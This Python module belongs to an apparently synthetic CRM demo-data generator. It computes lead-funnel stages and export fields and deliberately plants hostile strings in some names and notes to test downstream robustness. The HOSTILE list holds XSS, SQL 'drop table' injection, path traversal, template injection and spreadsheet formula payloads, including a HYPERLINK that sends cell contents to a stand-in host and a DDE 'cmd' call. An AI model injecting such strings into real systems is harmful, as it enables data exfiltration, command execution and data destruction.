"""What the CRM writers share: stage entries of a cycle, amounts, hostile text."""

from __future__ import annotations

from collections.abc import Callable

from orchestration.demo.company import Company
from orchestration.demo.files import Planted
from orchestration.demo.plan import TITLES
from orchestration.demo.world import Account, Cycle, Deal, Group, Person

HOSTILE = (
    '<script>alert("demo")</script>',
    '=HYPERLINK("https://demo-company.example/?"&A1,"Open")',
    'Mac "Quote" O\'Comma, & <b>Sons</b>;',
    "first line\nsecond line\r\nthird",
    "+1+1|cmd ' /C demo'!A0",
    "'; drop table people; --",
    "../../demo\\..\\{{ 7 * 7 }}",
    "=1+1",
)
LONG_NOTE = "A note that somebody pasted. " * 690 + "The end.\n"
"""About 20,000 characters."""

Entry = tuple[int, str, str | None]
"""(instant, canonical stage, reject reason)."""


def stage_entries(cycle: Cycle) -> list[Entry]:
    """What the CRM recorded of one attempt, in the order of the funnel."""
    entries: list[Entry] = []
    if cycle.is_lead_entered:
        entries.append((cycle.lead_at, "lead", None))
    if cycle.mql_at is not None:
        entries.append((cycle.mql_at, "mql", None))
    if cycle.sal_at is not None:
        entries.append((cycle.sal_at, "sal", None))
    if cycle.sql_at is not None:
        entries.append((cycle.sql_at, "sql", None))
    if cycle.rejected_at is not None:
        entries.append((cycle.rejected_at, "rejected", cycle.reject_reason))
    if cycle.recycled_at is not None:
        entries.append((cycle.recycled_at, "recycled", None))
    if cycle.disqualified_at is not None:
        entries.append((cycle.disqualified_at, "disqualified", None))
    return entries


def last_stage(person: Person) -> str:
    """The canonical stage the person's record stands at."""
    if not person.cycles:
        return "subscriber"
    return max(stage_entries(person.cycles[-1]), key=lambda entry: entry[0])[1]


def follow(
    group: Group, leg: str, as_of: int, account: Callable[[Account], None],
    deal: Callable[[Deal], None], person: Callable[[Person], None],
) -> None:  # fmt: skip
    """Hand a CRM what a group holds for it; a group lies in one leg."""
    for one in group.accounts:
        if one.leg.name != leg:
            return
        account(one)
        for its in one.deals:
            deal(its)
    for one in group.people:
        if one.leg.name != leg:
            return
        if is_shown(one, as_of):
            person(one)


def employees_of(account: Account) -> int | str:
    """Empty where nobody filled it in."""
    return "" if account.fit["size"] is None else account.employees


def technologies_of(account: Account) -> str:
    """What the company connects to us; empty where nobody knows."""
    return {None: "", 0.0: "Spreadsheets", 1.0: "Spreadsheets; ERP"}[account.fit["tech"]]


def title_of(person: Person) -> str:
    """A job title that means the person's persona."""
    titles = TITLES[person.persona][person.leg.name == "apac"]
    return titles[person.number % len(titles)]


def is_shown(person: Person, as_of: int) -> bool:
    """Whether the person was known by the time of the export."""
    return person.created_at < as_of


def is_spam(person: Person) -> bool:
    """Whether the record is marked as spam; one without e-mail and phone needs no mark."""
    return person.excluded_reason == "spam" and person.email is not None


def converted_at(person: Person) -> int | None:
    """When the person became a contact: with the first deal of one of their cycles."""
    created = [cycle.deal.created_at for cycle in person.cycles if cycle.deal is not None]
    return min(created, default=None)


def money(amount: float | None) -> str:
    return "" if amount is None else f"{amount:.2f}"


def expected_close(deal: Deal, at: int) -> int | None:
    """The close day the deal showed at an instant."""
    day = None
    for changed_at, changed_to in deal.close_day_changes:
        if changed_at <= at:
            day = changed_to
    return day


class Names:
    """Names of people and companies; some made hostile where the company has that defect.

    What no program must run or trip over stands before the name: a formula counts only at the
    beginning of a cell.
    """

    def __init__(self, company: Company, planted: Planted) -> None:
        self._is_hostile = "hostile_text" in company.settings.warts
        self._planted = planted

    def person(self, name: str, number: int, file: str, record: object) -> str:
        """The name, hostile in one record of seventeen."""
        if not self._is_hostile or number % 17:
            return name
        self._planted.note("hostile_text", file, record, "name")
        return f"{HOSTILE[number // 17 % len(HOSTILE)]} {name}"

    def account(self, account: Account, file: str, record: object) -> tuple[str, str]:
        """The name and a note, hostile in one record of thirteen; a few notes are very long."""
        number = account.number
        if not self._is_hostile or number % 13:
            return account.name, ""
        self._planted.note("hostile_text", file, record, "name and note")
        text = HOSTILE[number // 13 % len(HOSTILE)]
        return f"{text} {account.name}", LONG_NOTE if number % 8 == 0 else text
